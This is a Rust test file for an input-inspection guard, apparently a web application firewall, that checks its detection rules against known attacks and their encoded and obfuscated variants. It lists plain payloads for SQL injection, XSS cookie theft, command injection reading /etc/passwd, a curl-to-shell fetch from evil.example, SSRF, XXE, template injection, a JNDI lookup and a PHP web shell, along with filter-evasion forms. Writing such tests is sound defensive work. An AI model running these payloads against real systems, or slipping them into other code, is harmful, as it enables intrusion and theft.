//! Rules against their examples, and attacks in every wrapping.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::catalog::CATALOG;
use super::rule::{FILES, Rule, RuleFile};
use super::rule_set::RuleSet;
use super::*;

fn rules() -> Vec<Rule> {
    let files = FILES.iter().map(|(name, text)| RuleFile::read(name, text));
    let read = files.map(|file| file.map_err(|report| report.problems().cloned().collect::<Vec<_>>()));
    read.flat_map(|file| file.unwrap().rules).collect()
}

/// A guard that has all rules on and stops at nothing.
fn every() -> Guard {
    Guard::new(&Settings { sensitivity: Sensitivity::High, threshold: 1000, ..Settings::default() })
}

fn hits(guard: &Guard, part: Part, text: &str) -> Vec<&'static str> {
    let mut scan = Scan::default();
    guard.inspect(part, text.as_bytes(), &mut scan);
    scan.hits().iter().map(|hit| hit.rule).collect()
}

fn score(text: &str) -> u32 {
    let mut scan = Scan::default();
    Guard::new(&Settings::default()).inspect(Part::Value, text.as_bytes(), &mut scan);
    scan.score()
}

#[test]
fn every_rule_finds_its_examples_and_nothing_else() {
    let guard = every();
    let mut wrong = Vec::new();
    for rule in rules() {
        let part = if rule.part == super::rule::Reads::Keys { Part::Key } else { Part::Value };
        for text in &rule.matches {
            if !hits(&guard, part, text).contains(&rule.id.as_str()) {
                wrong.push(format!("{rule} does not find {text:?}"));
            }
        }
        for text in &rule.pass {
            if hits(&guard, part, text).contains(&rule.id.as_str()) {
                wrong.push(format!("{rule} finds {text:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_rule_compiles_and_is_well_formed() {
    assert!(!CATALOG.is_broken());
    let rules = rules();
    assert!(rules.len() <= RuleSet::CAPACITY);
    let mut ids: Vec<&str> = rules.iter().map(|rule| rule.id.as_str()).collect();
    ids.sort_unstable();
    let count = ids.len();
    ids.dedup();
    assert_eq!(count, ids.len(), "ids are unique");
    let failed: Vec<_> = rules.iter().zip(CATALOG.rules()).filter(|(_, rule)| !rule.compiles()).collect();
    let failed: Vec<String> = failed.iter().map(|(rule, _)| rule.to_string()).collect();
    assert!(failed.is_empty(), "do not compile, or are too large: {failed:?}");
    for rule in &rules {
        assert!(
            !rule.literals.is_empty() && (1..=5).contains(&rule.score) && !rule.about.is_empty(),
            "{rule}"
        );
        assert!(
            rule.id.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-')
        );
    }
}

/// An attack of each class, as plain as it gets.
const ATTACKS: &[&str] = &[
    "x' UNION SELECT name, password FROM users -- ",
    "1 OR 1=1 -- ",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x | sh)",
    "../../../../../etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "*)(uid=*))(|(uid=*",
    "x' or name()='admin' or 'x'='y",
    "{\"$where\": \"this.a == 1\"}",
    "{{7*7}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    "<!--#exec cmd=\"id\" -->",
    "{\"__proto__\": {\"admin\": true}}",
    "O:8:\"Evil_Obj\":1:{s:1:\"a\";i:1;}",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>",
    "require('child_process').exec('id')",
];

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn base64(bytes: impl IntoIterator<Item = u8>) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = bytes.into_iter().collect();
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let bits = (0..3).fold(0u32, |bits, at| bits << 8 | u32::from(*group.get(at).unwrap_or(&0)));
        for at in 0..4 {
            let digit = DIGITS[(bits >> (18 - 6 * at) & 63) as usize];
            out.push(if at <= group.len() { char::from(digit) } else { '=' });
        }
    }
    out
}

#[test]
fn an_attack_is_found_in_every_wrapping() {
    let mixed = |text: &str| -> String {
        let flip =
            |(at, letter): (usize, char)| if at % 2 == 0 { letter.to_ascii_uppercase() } else { letter };
        text.chars().enumerate().map(flip).collect()
    };
    let each = |text: &str, write: &dyn Fn(char) -> String| -> String { text.chars().map(write).collect() };
    let mut missed = Vec::new();
    for attack in ATTACKS {
        let wrapped = [
            ("plain", (*attack).to_owned()),
            ("in prose", format!("Hello Ann, this is for you: {attack}")),
            ("percent", percent(attack)),
            ("percent twice", percent(&percent(attack))),
            (
                "percent of some",
                attack.replace(' ', "%20").replace('<', "%3C").replace('\'', "%27").replace('.', "%2e"),
            ),
            ("%u", each(attack, &|letter| format!("%u{:04x}", letter as u32))),
            ("HTML decimal", each(attack, &|letter| format!("&#{};", letter as u32))),
            ("HTML hexadecimal", each(attack, &|letter| format!("&#x{:x}", letter as u32) + ";")),
            (
                "HTML of some",
                attack.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;"),
            ),
            ("JSON", each(attack, &|letter| format!("\\u{:04X}", letter as u32))),
            ("JSON of some", attack.replace('"', "\\\"").replace('<', "\\u003c").replace('/', "\\/")),
            ("JavaScript", each(attack, &|letter| format!("\\x{:02x}", letter as u32))),
            ("base64", base64(attack.bytes())),
            ("base64 twice", base64(base64(attack.bytes()).bytes())),
            ("base64 of percent", base64(percent(attack).bytes())),
            ("base64 of UTF-16", base64(attack.encode_utf16().flat_map(u16::to_le_bytes))),
            ("percent of base64", percent(&base64(attack.bytes()))),
            ("in a data URL", format!("data:text/plain;base64,{}", base64(attack.bytes()))),
            ("UTF-16", each(attack, &|letter| format!("{letter}\0"))),
            (
                "wide letters",
                each(attack, &|letter| match letter {
                    '!'..='~' => char::from_u32(letter as u32 - 0x21 + 0xff01).unwrap().to_string(),
                    other => other.to_string(),
                }),
            ),
        ];
        for (how, text) in &wrapped {
            // Whatever stands before a command that has to break out of a word first makes it harmless.
            if *how == "in prose" && attack.starts_with(';') {
                continue;
            }
            if score(text) < 5 {
                missed.push(format!("{how}: {text}"));
            }
        }
        let is_exact = ["O:8", "$where", "__", "require"].iter().any(|mark| attack.contains(mark));
        if !is_exact && score(&mixed(attack)) < 5 {
            missed.push(format!("mixed case: {}", mixed(attack)));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn sql_and_shells_are_read_without_what_they_skip() {
    for text in [
        "1/**/union/**/select/**/password/**/from/**/users",
        "1 /*!50000union*/ /*!50000select*/ 1,2",
        "1+union+select+1,2",
        "1%0aunion%0a%23x%0aselect 1,2",
        "-1\tUNION\r\n  SELECT\x0b1,2",
        ";c'a't /etc/passwd",
        ";c\\at /et\\c/passwd",
        ";cat$IFS/etc/passwd",
        ";{cat,/etc/passwd}",
        "java\nscript:alert(1)",
        "<scr\0ipt>alert(1)</scr\0ipt>",
    ] {
        assert!(score(text) >= 5, "{text:?}");
    }
}

#[test]
fn keys_are_attacks_of_their_own() {
    let guard = Guard::new(&Settings::default());
    let mut scan = Scan::default();
    for key in ["$where", "__proto__", "<script>", "a[$ne]", "java.lang.Runtime"] {
        scan.reset();
        guard.inspect(Part::Key, key.as_bytes(), &mut scan);
        assert!(scan.is_over(5), "{key}");
    }
    scan.reset();
    guard.inspect(Part::Value, b"$where", &mut scan);
    assert_eq!(scan.score(), 0);
}

#[test]
fn classes_sensitivity_and_exclusions_count() {
    let (text, mut scan) = ("1 UNION SELECT 1,2", Scan::default());
    let without = Settings { classes: Classes::ALL.without(Class::Sqli), ..Settings::default() };
    Guard::new(&without).inspect(Part::Value, text.as_bytes(), &mut scan);
    assert!(scan.hits().is_empty());
    let guard = Guard::new(&Settings::default());
    let excluded = guard.exclusion(&[Class::Sqli], &[]).unwrap();
    guard.inspect_except(Part::Value, text.as_bytes(), &excluded, &mut scan);
    assert!(scan.hits().is_empty());
    assert_eq!(guard.exclusion(&[], &["sqli-union-select", "no-such-rule"]).unwrap_err(), "no-such-rule");
    guard.inspect(Part::Value, text.as_bytes(), &mut scan);
    let hit = &scan.hits()[0];
    assert_eq!(
        (hit.rule, hit.class, hit.excerpt().as_str()),
        ("sqli-union-select", Class::Sqli, "1 UNION SELECT 1,2")
    );
    scan.reset();
    assert!(scan.hits().is_empty() && scan.score() == 0);
}

#[test]
fn what_takes_too_long_or_is_nested_too_deep_is_found() {
    let guard = Guard::new(&Settings { budget: 8, ..Settings::default() });
    let mut scan = Scan::default();
    let text = "a' or b and c union d select (e) <f> ;g |h %41 &lt; ".repeat(3000);
    guard.inspect(Part::Value, text.as_bytes(), &mut scan);
    assert!(scan.is_over(5) && scan.hits().iter().any(|hit| hit.rule == "budget"), "{scan:?}");
    let mut deep = "x".to_owned();
    for _ in 0..12 {
        deep = percent(&deep);
    }
    scan.reset();
    Guard::new(&Settings::default()).inspect(
        Part::Value,
        &deep.as_bytes()[..deep.len().min(4096)],
        &mut scan,
    );
    assert!(scan.is_over(5));
}

#[test]
fn secrets_are_masked_in_excerpts() {
    let mut scan = Scan::default();
    let text = b"4111111111111111 s3cretPassw0rd <script>";
    Guard::new(&Settings::default()).inspect(Part::Value, text, &mut scan);
    assert_eq!(scan.hits()[0].excerpt(), "4*** s*** <script>");
}
